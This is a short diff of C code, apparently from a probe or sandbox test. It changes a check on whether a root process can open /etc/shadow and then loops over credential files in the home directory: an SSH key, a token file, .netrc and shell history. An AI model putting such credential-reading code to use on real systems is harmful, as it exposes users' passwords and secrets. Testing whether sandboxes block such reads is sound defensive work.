@@ -302,7 +302,7 @@ static int read_secrets(void)
 {
   char path[4096];
   mark(31);
-  if (getuid() == 0 && (open("/etc/shadow", O_RDONLY) >= 0 || errno != EACCES))
+  if (getuid() == 0 && (open("/etc/shadow", O_RDONLY) >= 0 || (errno != EACCES && errno != ENOENT)))
     return 1;
   const char *home = getenv("HOME"), *names[] = { ".ssh/key", ".config/token", ".netrc", ".shell_history" };
   for (int i = 0; home && i < 4; i++) {
